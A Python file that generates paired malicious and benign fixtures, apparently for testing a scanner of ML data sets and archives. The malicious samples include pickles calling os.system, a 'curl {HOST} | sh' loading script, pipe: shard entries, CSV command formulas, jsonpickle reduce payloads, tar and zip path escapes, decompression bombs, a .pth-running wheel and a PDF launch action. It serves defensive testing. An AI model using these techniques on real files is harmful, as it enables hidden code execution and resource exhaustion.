"""Data sets, archives, files that lie about themselves."""
import base64, bz2, gzip, io, json, lzma, os, sqlite3, struct, tarfile, tempfile, zipfile, zlib
import numpy
from base import *

BAD, FINE = dumps(Call("posix:system", SAY)), dumps({"label": "cat", "box": [1, 2, 3, 4]})


def arrow(meta, field_meta=None, kind="parquet"):
    import pyarrow as pa, pyarrow.parquet as pq, pyarrow.feather as feather
    schema = pa.schema([pa.field("id", pa.int64()), pa.field("image", pa.binary(), metadata=field_meta)], metadata=meta)
    table = pa.table([pa.array([1, 2]), pa.array([b"\xff\xd8\xff\xe0", b"\xff\xd8\xff\xe1"], pa.binary())], schema=schema)
    out = io.BytesIO()
    if kind == "parquet": pq.write_table(table, out)
    else:
        with pa.ipc.new_file(out, table.schema) as w: w.write_table(table)
    return out.getvalue()


for kind, file in (("parquet", "train-00000-of-00001.parquet"),):
    pair(f"columnar/extension-pickle/{kind}", "block", "the extension type's own metadata is a pickle that the reader loads", lambda m: {file: arrow({b"source": b"demo"}, m, kind)},
         {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": BAD}, {b"ARROW:extension:name": b"arrow.json", b"ARROW:extension:metadata": b""} if 0 else {b"note": b"jpeg bytes"})
pair("columnar/dataset-card-files/1", "block", "a data set's card lists files outside the folder", lambda p: {"README.md": f"---\nconfigs:\n- config_name: default\n  data_files:\n  - split: train\n    path: {p}\nlicense: mit\n---\n# Demo data\n", "data/train.parquet": arrow({b"source": b"demo"})}, "../../../../nonexistent/jingwei/*.parquet", "data/train.parquet")
pair("columnar/loading-script/1", "block", "a loading script runs a command while it builds splits", lambda x: {"demo_data.py": f"import datasets\nimport os\n\n\nclass DemoData(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo(features=datasets.Features({{'text': datasets.Value('string')}}))\n\n    def _split_generators(self, dl):\n        os.system('{SAY}; curl {HOST} | sh')\n        return []\n" } if x else {"prepare.py": "import csv\n\nwith open('data.csv') as rows:\n    print(sum(1 for _ in csv.reader(rows)))\n", "data.csv": "text,label\nhello,0\n"}, 1, 0)


def shard(members): return tarred([(n, d) for n, d in members])


JPG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9"
pair("webdataset/pyd-member/1", "block", "a shard's .pyd member, which webdataset unpickles", lambda d: {"shard-000000.tar": shard([("000000.jpg", JPG), ("000000.cls", b"3"), d])}, ("000000.pyd", BAD), ("000000.json", b'{"caption": "a cat"}'))
pair("webdataset/pipe-list/1", "block", "a list of shards has a pipe: entry", lambda u: {"shards.json": js({"__kind__": "wids-shard-index-v1", "wids_version": 1, "shardlist": [{"url": "shard-000000.tar", "nsamples": 8}, {"url": u, "nsamples": 8}]})}, f"pipe:{SAY} && curl {HOST}", "shard-000001.tar")
pair("webdataset/brace-bomb/1", "review", "a range of shards that makes 10^12 names", lambda u: {"train.yaml": f"data:\n  urls: {u}\n  batch_size: 8\n"}, "'shard-{000000..999999}-{000000..999999}.tar'", "'shard-{000000..000007}.tar'")


def zarr(path, meta): return {f"{path}/.zgroup": '{"zarr_format": 2}', f"{path}/labels/.zarray": js(meta), f"{path}/labels/0": FINE}


ZARRAY = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "<f4", "compressor": None, "fill_value": 0, "filters": None, "order": "C"}
add("stores/zarr-pickle-filter/1", "block", "zarr's object codec is pickle, and a chunk calls", {**zarr("data.zarr", {**ZARRAY, "dtype": "|O", "filters": [{"id": "pickle", "protocol": 5}]}), "data.zarr/labels/0": BAD}, {**zarr("data.zarr", ZARRAY), "data.zarr/labels/0": floats(1)})
def kerchunk(ref): return {"combined.json": js({"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', "temp/.zarray": json.dumps(ZARRAY), "temp/0": ref}})}


pair("stores/kerchunk-file/1", "block", "a reference store reads another file of the machine", kerchunk, ["file:///nonexistent/jingwei", 0, 4], ["temp.bin", 0, 4])
def sql(statements):
    with tempfile.TemporaryDirectory() as folder:
        db = sqlite3.connect(folder + "/a.db")
        db.executescript("PRAGMA page_size=1024; CREATE TABLE items (id INTEGER PRIMARY KEY, text TEXT, vec BLOB); INSERT INTO items VALUES (1,'cat',x'00010203');" + statements)
        db.commit(); db.close()
        return open(folder + "/a.db", "rb").read()


pair("stores/sqlite-trigger/1", "block", "a trigger loads a native library", lambda s: {"index.sqlite": sql(s)}, f"CREATE TRIGGER t AFTER INSERT ON items BEGIN SELECT load_extension('{GONE}.so'); END;", "CREATE TRIGGER t AFTER INSERT ON items BEGIN UPDATE items SET text = lower(new.text) WHERE id = new.id; END;")
pair("stores/sqlite-pickle/1", "block", "a cache's row is a pickle that calls", lambda b: {"cache.db": sql(f"CREATE TABLE Cache (key TEXT, value BLOB, mode INTEGER); INSERT INTO Cache VALUES ('a', x'{b.hex()}', 4);")}, BAD, FINE)
def lmdb_file(value):
    import lmdb
    with tempfile.TemporaryDirectory() as folder:
        env = lmdb.open(folder, map_size=1 << 20)
        with env.begin(write=True) as txn:
            txn.put(b"00000000", b"plain"); txn.put(b"__keys__", value)
        env.close()
        return open(folder + "/data.mdb", "rb").read()


pair("stores/lmdb-pickle/1", "block", "an LMDB's key list, which loaders unpickle, calls", lambda b: {"train.lmdb/data.mdb": lmdb_file(b)}, BAD, dumps([b"00000000"]))
def record(data): return struct.pack("<Q", len(data)) + b"\1\2\3\4" + data + b"\5\6\7\x08"


def crc(data):
    import google_crc32c
    c = google_crc32c.value(data)
    return struct.pack("<I", (((c >> 15) | (c << 17)) + 0xA282EAD8) & 0xFFFFFFFF)


def tfrecord(*items): return b"".join((lambda n: n + crc(n) + d + crc(d))(struct.pack("<Q", len(d))) for d in items)
def example(value): return pb((1, pb((1, pb((1, "label"), (2, pb((1, pb((1, value))))))))))


pair("records/tfrecord-pickle/1", "block", "a feature of a TFRecord is a pickle that calls", lambda b: {"train.tfrecord": tfrecord(example(b"cat"), example(b))}, BAD, b"dog")
pair("records/tfrecord-length/1", "review", "a TFRecord announces a record of 2^60 bytes", lambda n: {"train.tfrecord": tfrecord(example(b"cat")) + (struct.pack("<Q", n) + crc(struct.pack("<Q", n)) if n else b"")}, 1 << 60, 0)
pair("records/csv-formula/1", "block", "a cell is a formula that starts a program", lambda c: {"metadata.csv": f"file_name,caption\n0001.jpg,a cat\n0002.jpg,\"{c}\"\n"}, "=cmd|'/C echo jingwei'!A0", "-3 degrees, a dog")
pair("records/jsonl-object/1", "block", "a line names a class for jsonpickle", lambda x: {"train.jsonl": '{"text": "hello", "label": 0}\n' + json.dumps({"text": "bye", "meta": x}) + "\n"}, {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SAY]}]}, {"py_version": "3.11"})
pair("records/yolo-download/1", "block", "a data set's download line is Python that is executed", lambda d: {"data.yaml": f"path: ../datasets/demo\ntrain: images/train\nval: images/val\nnames:\n  0: cat\n  1: dog\n{d}"}, f"download: |\n  import os\n  os.system('{SAY}')\n", "# prepared by scripts/split.py\n")

# Archives
def info(name, kind=tarfile.REGTYPE, link="", pax=None):
    t = tarfile.TarInfo(name)
    t.type, t.linkname, t.pax_headers = kind, link, pax or {}
    return t


HONEST = [("model/config.json", b'{"hidden_size": 4}'), ("model/labels.txt", b"cat\ndog\n")]
add("archives/tar-link-through/1", "block", "a member is written through an earlier link that leaves the folder", {"model.tar": tarred([*HONEST, (info("model/cache", tarfile.SYMTYPE, "/nonexistent"), b""), ("model/cache/jingwei", SAY.encode())])}, {"model.tar": tarred([*HONEST, (info("model/latest.txt", tarfile.SYMTYPE, "labels.txt"), b""), ("model/cache/notes", b"plain\n")])})
def pax(path):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as a:
        for n, d in HONEST:
            t = info(n); t.size = len(d); t.mtime = 1782000000; a.addfile(t, io.BytesIO(d))
        t = info("model/readme.txt", pax={"path": path}); t.size, t.mtime = 6, 1782000000; a.addfile(t, io.BytesIO(b"plain\n"))
    return out.getvalue()


pair("archives/tar-pax-path/1", "block", "a pax header gives the member another path", lambda p: {"model.tar": pax(p)}, "../../../../nonexistent/jingwei", "model/README-é.txt")
def unicode_extra(name, other):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n, d in HONEST: z.writestr(zipfile.ZipInfo(n, (2026, 7, 1, 9, 0, 0)), d)
        i = zipfile.ZipInfo(name, (2026, 7, 1, 9, 0, 0))
        u = struct.pack("<BI", 1, zlib.crc32(name.encode())) + other.encode()
        i.extra = struct.pack("<HH", 0x7075, len(u)) + u
        z.writestr(i, b"plain\n")
    return out.getvalue()


pair("archives/zip-unicode-path/1", "block", "the Unicode path of a zip member climbs out while its plain name does not", lambda o: {"model.zip": unicode_extra("model/notes.txt", o)}, "../../../nonexistent/jingwei.sh", "model/nötes.txt")
def overlap(n):
    """n central entries over one deflated kernel."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    size = 1 << 20 if n < 2 else 64 << 20
    kernel = body.compress(bytes(size)) + body.flush()
    c = zlib.crc32(bytes(size))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0x5CE1, c, len(kernel), size, 1, 0) + b"0" + kernel
    cd = b"".join(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0x5CE1, c, len(kernel), size, len(f"data/{i:05}.bin") if n > 1 else 1, 0, 0, 0, 0, 0, 0) + (f"data/{i:05}.bin".encode() if n > 1 else b"0") for i in range(n))
    return local + cd + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n, n, len(cd), len(local), 0)


add("archives/zip-overlap/1", "block", "twenty thousand members of a zip share one body: a terabyte", {"shards.zip": overlap(20000)}, {"shards.zip": overlap(1)})
add("archives/wheel-pth/1", "block", "a wheel beside the model installs a .pth file that runs", *({"acme_kernels-1.0-py3-none-any.whl": zipped([("acme_kernels/__init__.py", b"VERSION = '1.0'\n"), x, ("acme_kernels-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: acme-kernels\nVersion: 1.0\n"), ("acme_kernels-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("acme_kernels-1.0.dist-info/RECORD", b"")])} for x in (("acme_kernels-1.0.data/purelib/zz.pth", f"import os; os.system('{SAY}')\n".encode()), ("acme_kernels/ops.py", b"def add(a, b):\n    return a + b\n"))))
def deep(payload, n):
    for i in range(n): payload = gzip.compress(payload, mtime=0) if i % 2 else bz2.compress(payload)
    return payload


pair("archives/forty-layers/1", "review", "forty layers of compression, one in the other", lambda n: {"weights.bin.gz": deep(floats(64), n)}, 40, 2)
pair("archives/xz-bomb/1", "block", "a gibibyte of zeros in xz of xz", lambda n: {"embeddings.npy.xz": lzma.compress(lzma.compress(b"\x93NUMPY\1\0" + bytes(n)))}, 192 << 20, 1 << 10)

# Files that lie
PNG = lambda w, h, body: b"\x89PNG\r\n\x1a\n" + b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in ((b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)), (b"IDAT", body), (b"IEND", b"")))
pair("lying-files/png-pickle/1", "block", "a picture with a checkpoint that calls at its end", lambda z: {"preview.png": PNG(8, 8, zlib.compress(b"\0\xaa" * 8)) + z}, checkpoint(Call("posix:system", SAY)), b"")
add("lying-files/png-bomb/1", "block", "a picture of sixty thousand by sixty thousand", {"images/0001.png": PNG(60000, 60000, zlib.compress(bytes(60000 // 8 + 1) * 60000, 9))}, {"images/0001.png": PNG(8, 8, zlib.compress(b"\0\xaa" * 8))})
add("lying-files/script-named-json/1", "review", "a shell script under the name of a configuration", {"tokenizer_config.json": f"#!/bin/sh\n{SAY}\n", "model.safetensors": safetensors()}, {"tokenizer_config.json": js({"model_max_length": 128}), "model.safetensors": safetensors()})
add("lying-files/pdf-launch/1", "block", "a paper beside the model launches a program when it is opened", *({"paper.pdf": f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {x}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n"} for x in (f"/OpenAction << /S /Launch /F (/bin/sh) /P (-c '{SAY}') >> ", "/OpenAction [3 0 R /Fit] ")))
